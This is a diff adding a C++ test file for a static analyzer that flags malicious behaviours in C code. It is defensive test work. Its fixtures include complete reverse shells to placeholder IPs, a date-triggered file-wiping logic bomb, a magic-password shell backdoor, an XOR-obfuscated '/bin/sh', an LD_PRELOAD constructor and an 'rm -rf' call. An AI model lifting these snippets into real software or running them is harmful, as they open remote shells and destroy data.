@@ -1,0 +1,355 @@
+// Capabilities, guards and behaviours on small real programs (through Clang)
+// and on hand-made facts (the manifest, its diff, the combinators).
+#include "analyzer/behaviors.h"
+#include "analyzer/capabilities.h"
+#include "analyzer/link.h"
+#include "analyzer/rules_loader.h"
+#include "frontend/tu_runner.h"
+#include "tests/test_support.h"
+
+#include <catch2/catch.hpp>
+
+#include <nlohmann/json.hpp>
+
+using namespace sluice;
+
+namespace {
+
+using testing::builtinRules;
+
+const char *kHeaders = R"(
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+#include <unistd.h>
+#include <fcntl.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <netinet/in.h>
+#include <arpa/inet.h>
+)";
+
+facts::TUFacts factsOf(const std::string &body) {
+  TUOutcome o = analyzeCode(std::string(kHeaders) + body, "input.c", {"-std=gnu17"},
+                            builtinRules());
+  INFO("parse errors: " << o.parseErrors);
+  CHECK(o.parseErrors == 0);
+  return o.analysis.facts;
+}
+
+/// The findings of the whole pipeline (taint rules and behaviours).
+std::vector<report::Finding> scan(const std::string &body) {
+  std::vector<facts::TUFacts> units{factsOf(body)};
+  const RuleSet &rules = builtinRules();
+  std::vector<Policy> policies = rules.policies;
+  for (Policy &p : behaviorFlowPolicies(rules.behaviors))
+    policies.push_back(std::move(p));
+  policies.push_back(capabilityHandlePolicy());
+  std::vector<report::Finding> taint, flows, confirmations;
+  for (report::Finding &f : linkProgram(units, policies))
+    (isFlowPolicyId(f.ruleId)                ? flows
+     : isCapabilityHandlePolicyId(f.ruleId)  ? confirmations
+                                             : taint)
+        .push_back(std::move(f));
+  settleCapabilities(units, confirmations);
+  ProgramGraph g = ProgramGraph::build(units);
+  Manifest m = buildManifest(g, rules);
+  std::vector<report::Finding> out = taint;
+  for (report::Finding &f : evaluateBehaviors(g, m, rules, flows, taint))
+    out.push_back(std::move(f));
+  return out;
+}
+
+size_t count(const std::vector<report::Finding> &fs, const std::string &rule) {
+  size_t n = 0;
+  for (const auto &f : fs)
+    n += f.ruleId == rule;
+  return n;
+}
+
+/// Guard kinds on the capabilities of `kind` in function `fn`.
+std::vector<std::string> guardKinds(const facts::TUFacts &t, const std::string &fn,
+                                    const std::string &kind) {
+  std::vector<std::string> out;
+  for (const auto &f : t.functions)
+    if (f.name == fn)
+      for (const auto &c : f.capabilities)
+        if (c.kind == kind)
+          for (const auto &g : c.guards)
+            out.push_back(g.kind);
+  return out;
+}
+
+const facts::Capability *capability(const facts::TUFacts &t, const std::string &fn,
+                                    const std::string &kind) {
+  for (const auto &f : t.functions)
+    if (f.name == fn)
+      for (const auto &c : f.capabilities)
+        if (c.kind == kind)
+          return &c;
+  return nullptr;
+}
+
+bool has(const std::vector<std::string> &v, const std::string &x) {
+  return std::find(v.begin(), v.end(), x) != v.end();
+}
+
+} // namespace
+
+TEST_CASE("capabilities carry their folded values", "[capabilities]") {
+  auto t = factsOf(R"(
+    void f(void) {
+      system("rm -rf /tmp/x");
+      execl("/bin/sh", "sh", "-c", "id", (char *)0);
+      execl("/usr/bin/make", "make", (char *)0);
+      unlink("/var/lib/app.db");
+      chmod("/tmp/run.sh", 0755);
+      chmod("/tmp/data.txt", 0644);
+    })");
+  const facts::Capability *c = capability(t, "f", "exec-shell");
+  REQUIRE(c);
+  CHECK(c->value == "rm -rf /tmp/x");
+  size_t shells = 0, execs = 0, chmods = 0;
+  for (const auto &x : t.functions[0].capabilities) {
+    shells += x.kind == "exec-shell";
+    execs += x.kind == "exec";
+    chmods += x.kind == "file-chmod-exec";
+  }
+  CHECK(shells == 2);         // system() and execl of a shell
+  CHECK(execs == 1);          // make is a program, not a shell
+  CHECK(chmods == 1);         // 0644 sets no execute bit
+  REQUIRE(capability(t, "f", "file-delete"));
+  CHECK(capability(t, "f", "file-delete")->value == "/var/lib/app.db");
+}
+
+TEST_CASE("clock guards tell absolute dates from durations", "[guards]") {
+  auto t = factsOf(R"(
+    void bomb(void) { time_t now = time(NULL); if (now > 1767225600) unlink("a"); }
+    void fields(void) { time_t n = time(0); struct tm *tm = localtime(&n);
+                        if (tm->tm_year + 1900 >= 2027) unlink("b"); }
+    void early(void) { if (time(NULL) < 1767225600) return; unlink("c"); }
+    void aged(const char *p) { struct stat st; stat(p, &st);
+                               if (time(NULL) - st.st_mtime > 30 * 86400) unlink(p); }
+    void elapsed(void) { time_t start = time(0); time_t now = time(0);
+                         if (now - start > 60) unlink("d"); })");
+  CHECK(has(guardKinds(t, "bomb", "file-delete"), "clock-date"));
+  CHECK(has(guardKinds(t, "early", "file-delete"), "clock-date"));
+  CHECK(has(guardKinds(t, "aged", "file-delete"), "clock-elapsed"));
+  CHECK_FALSE(has(guardKinds(t, "aged", "file-delete"), "clock-date"));
+  CHECK_FALSE(has(guardKinds(t, "elapsed", "file-delete"), "clock-date"));
+  auto fields = guardKinds(t, "fields", "file-delete");
+  CHECK(has(fields, "clock-date"));
+}
+
+TEST_CASE("counters are not loop variables; magic values are equalities with strings",
+          "[guards]") {
+  auto t = factsOf(R"(
+    void counter(void) { int runs = 0; for (;;) { if (runs == 500) unlink("a"); runs++; } }
+    void retry(void) { for (int i = 0; i < 5; i++) { if (i == 4) unlink("b"); } }
+    void attempts(void) { int n = 0; while (n < 3) { n++; } if (n == 3) unlink("c"); }
+    void magic(void) { char line[64]; if (!fgets(line, sizeof line, stdin)) return;
+                       if (strcmp(line, "opensesame\n") == 0) system("/bin/sh"); }
+    void count(void) { char line[64]; if (!fgets(line, sizeof line, stdin)) return;
+                       if (strlen(line) > 10) system("/bin/sh"); }
+    void lucky(void) { if (rand() % 1000 == 7) unlink("e"); })");
+  CHECK(has(guardKinds(t, "counter", "file-delete"), "counter"));
+  CHECK(guardKinds(t, "retry", "file-delete").empty());
+  CHECK(guardKinds(t, "attempts", "file-delete").empty());
+  CHECK(has(guardKinds(t, "magic", "exec-shell"), "user-input"));
+  CHECK_FALSE(has(guardKinds(t, "count", "exec-shell"), "user-input"));
+  CHECK(has(guardKinds(t, "lucky", "file-delete"), "random"));
+}
+
+TEST_CASE("decoding loops are recognised and folded", "[obfuscation]") {
+  auto t = factsOf(R"(
+    static const unsigned char enc[] = {0x6d, 0x20, 0x2b, 0x2c, 0x6d, 0x31, 0x2a, 0x42};
+    void run(void) { char cmd[8]; for (int i = 0; i < 8; i++) cmd[i] = enc[i] ^ 0x42;
+                     execl(cmd, cmd, (char *)0); }
+    void built(void) { char h[8]; h[0] = 'e'; h[1] = 'v'; h[2] = 'i'; h[3] = 'l'; h[4] = 0;
+                       connect(0, 0, 0); }
+    unsigned sum(const unsigned char *b, int n) { unsigned s = 0;
+                       for (int i = 0; i < n; i++) s ^= b[i]; return s; })");
+  const facts::Capability *d = capability(t, "run", "decode-loop");
+  REQUIRE(d);
+  CHECK(d->value == "/bin/sh");
+  const facts::Capability *b = capability(t, "built", "char-built-string");
+  REQUIRE(b);
+  CHECK(b->value == "evil");
+  CHECK_FALSE(capability(t, "sum", "decode-loop"));  // a checksum is not a decoder
+}
+
+TEST_CASE("behaviours combine capabilities along calls", "[behaviors]") {
+  // The guard sits in the caller, the deletion in a helper.
+  auto bomb = scan(R"(
+    static void wipe(void) { unlink("/var/lib/app/data.db"); }
+    int main(void) { if (time(NULL) > 1767225600) wipe(); return 0; })");
+  CHECK(count(bomb, "behavior.logic-bomb") == 1);
+  auto cleanup = scan(R"(
+    static void purge(const char *p) { unlink(p); }
+    int main(int argc, char **argv) { struct stat st;
+      if (argc > 1 && stat(argv[1], &st) == 0 && time(NULL) - st.st_mtime > 7 * 86400)
+        purge(argv[1]);
+      return 0; })");
+  CHECK(count(cleanup, "behavior.logic-bomb") == 0);
+
+  const char *shell = R"(
+    int main(void) {
+      int s = socket(AF_INET, SOCK_STREAM, 0);
+      struct sockaddr_in a = {0};
+      a.sin_family = AF_INET; a.sin_port = htons(4444);
+      a.sin_addr.s_addr = inet_addr("203.0.113.9");
+      connect(s, (struct sockaddr *)&a, sizeof a);
+      for (int fd = 0; fd < 3; fd++) dup2(s, fd);
+      %s
+      return 0; })";
+  char bad[1024], late[1024];
+  snprintf(bad, sizeof bad, shell, "execl(\"/bin/sh\", \"sh\", (char *)0);");
+  CHECK(count(scan(bad), "behavior.reverse-shell") == 1);
+  // dup2 of a file onto stdout then a shell is a log redirect, not a shell
+  // handed to a peer.
+  CHECK(count(scan(R"(
+    int main(void) { int log = open("/var/log/app.log", O_WRONLY | O_APPEND);
+      dup2(log, 1); execl("/bin/sh", "sh", "-c", "date", (char *)0); return 0; })"),
+              "behavior.reverse-shell") == 0);
+  // The socket made by a helper and returned: the link step settles that
+  // the descriptor given to dup2 is a socket.
+  CHECK(count(scan(R"(
+    static int dial(void) { int s = socket(AF_INET, SOCK_STREAM, 0);
+      struct sockaddr_in a = {0}; a.sin_addr.s_addr = inet_addr("198.51.100.4");
+      connect(s, (struct sockaddr *)&a, sizeof a); return s; }
+    static void attach(int fd) { for (int i = 0; i < 3; i++) dup2(fd, i); }
+    int main(void) { int s = dial(); attach(s); execl("/bin/bash", "bash", "-i", (char *)0);
+      return 0; })"), "behavior.reverse-shell") == 1);
+  CHECK(count(scan(R"(
+    static int logfile(void) { return open("/var/log/x.log", O_WRONLY | O_APPEND); }
+    static void attach(int fd) { dup2(fd, 1); dup2(fd, 2); }
+    int main(void) { attach(logfile()); execl("/bin/sh", "sh", "-c", "date", (char *)0);
+      return 0; })"), "behavior.reverse-shell") == 0);
+  // The shell must come after the redirection.
+  snprintf(late, sizeof late,
+           "int main(void){ system(\"/bin/sh -c true\"); int s = socket(AF_INET, SOCK_STREAM, 0);"
+           " dup2(s, 0); return 0; }");
+  CHECK(count(scan(late), "behavior.reverse-shell") == 0);
+}
+
+TEST_CASE("the manifest lists entry points with call paths and guards", "[manifest]") {
+  std::vector<facts::TUFacts> units{factsOf(R"(
+    static void fetch(void) { int s = socket(AF_INET, SOCK_STREAM, 0);
+      struct sockaddr_in a = {0}; a.sin_addr.s_addr = inet_addr("45.61.136.12");
+      connect(s, (struct sockaddr *)&a, sizeof a); }
+    static void step(void) { fetch(); }
+    int main(void) { step(); return 0; }
+    __attribute__((constructor)) static void early(void) { setenv("LD_PRELOAD", "x", 1); })")};
+  ProgramGraph g = ProgramGraph::build(units);
+  Manifest m = buildManifest(g, builtinRules());
+  const EntryPoint *main = nullptr, *ctor = nullptr;
+  for (const EntryPoint &e : m.entries) {
+    if (e.name == "main")
+      main = &e;
+    if (e.name == "early")
+      ctor = &e;
+  }
+  REQUIRE(main);
+  REQUIRE(ctor);
+  CHECK(main->why == "main");
+  CHECK(ctor->why == "constructor");
+  const CapabilityUse *connect = nullptr;
+  for (const CapabilityUse &u : main->uses)
+    if (u.cap.kind == "net-connect")
+      connect = &u;
+  REQUIRE(connect);
+  CHECK(connect->cap.value == "45.61.136.12");  // the address named next to connect()
+  REQUIRE(connect->path.size() == 2);
+  CHECK(connect->path[0].function == "main");
+  CHECK(connect->path[1].function == "step");
+
+  // A diff against a base without the connection reports it; an allow list
+  // entry covers it.
+  std::string json = manifestJson(m, "test");
+  auto base = nlohmann::json::parse(json);
+  for (auto &e : base["entryPoints"]) {
+    auto &caps = e["capabilities"];
+    nlohmann::json kept = nlohmann::json::array();
+    for (auto &c : caps)
+      if (c["kind"] != "net-connect")
+        kept.push_back(c);
+    caps = kept;
+  }
+  std::vector<NewCapability> added;
+  std::string error;
+  REQUIRE(diffManifest(m, base.dump(), {}, added, error));
+  REQUIRE(added.size() == 1);
+  CHECK(added[0].key == "net-connect 45.61.136.12");
+  CHECK_FALSE(added[0].allowed);
+  added.clear();
+  REQUIRE(diffManifest(m, base.dump(), parseAllowList("# ok\nnet-connect 45.61.*\n"), added, error));
+  REQUIRE(added.size() == 1);
+  CHECK(added[0].allowed);
+  added.clear();
+  REQUIRE(diffManifest(m, json, {}, added, error));
+  CHECK(added.empty());
+  CHECK_FALSE(diffManifest(m, "{\"entryPoints\": []}", {}, added, error));
+  CHECK(error.find("not a Sluice capability manifest") != std::string::npos);
+}
+
+TEST_CASE("behaviour rules load with their combinators and are checked", "[behaviors][rules]") {
+  RuleSet r;
+  std::vector<RuleError> errors;
+  const char *good = R"(
+behavior:
+  id: behavior.x
+  name: X
+  level: error
+  cwe: [506]
+  security-severity: "9.0"
+  scope: function
+  when:
+    all:
+      - any:
+          - capability: net-receive
+            as: a
+          - capability: memfd
+            as: a
+      - capability: exec
+        as: b
+        after: a
+      - not:
+          capability: exec
+          value: ["/usr/bin/*"]
+          same-value: b
+  message: "{a} then {b}"
+  short: s
+  full: f
+  help: h
+)";
+  REQUIRE(loadRuleText(good, "behavior.x.yaml", r, errors));
+  REQUIRE(r.behaviors.size() == 1);
+  CHECK(r.behaviors[0].root.op == BehaviorNode::All);
+  CHECK(r.behaviors[0].root.children.size() == 3);
+  CHECK(r.behaviors[0].root.children[2].op == BehaviorNode::Not);
+
+  std::string bad = good;
+  bad.replace(bad.find("after: a"), 8, "after: z");
+  errors.clear();
+  CHECK_FALSE(loadRuleText(bad, "behavior.x.yaml", r, errors));
+  REQUIRE_FALSE(errors.empty());
+  CHECK(errors[0].message.find("'after' names 'z'") != std::string::npos);
+  CHECK(errors[0].line > 0);
+
+  std::string kind = good;
+  kind.replace(kind.find("capability: memfd"), 17, "capability: teleport");
+  errors.clear();
+  CHECK_FALSE(loadRuleText(kind, "behavior.x.yaml", r, errors));
+  CHECK(errors[0].message.find("unknown capability kind 'teleport'") != std::string::npos);
+
+  errors.clear();
+  CHECK_FALSE(loadRuleText(good, "behavior.y.yaml", r, errors));  // id names the file
+  CHECK(errors[0].message.find("does not match its file name") != std::string::npos);
+
+  errors.clear();
+  CHECK_FALSE(loadRuleText("models:\n  - capability: exec\n    functions: [f]\n"
+                           "    when: [\"zero@arg1\", \"bogus\"]\n    why: w\n",
+                           "m.yaml", r, errors));
+  CHECK(errors[0].message.find("unknown condition 'bogus'") != std::string::npos);
+}
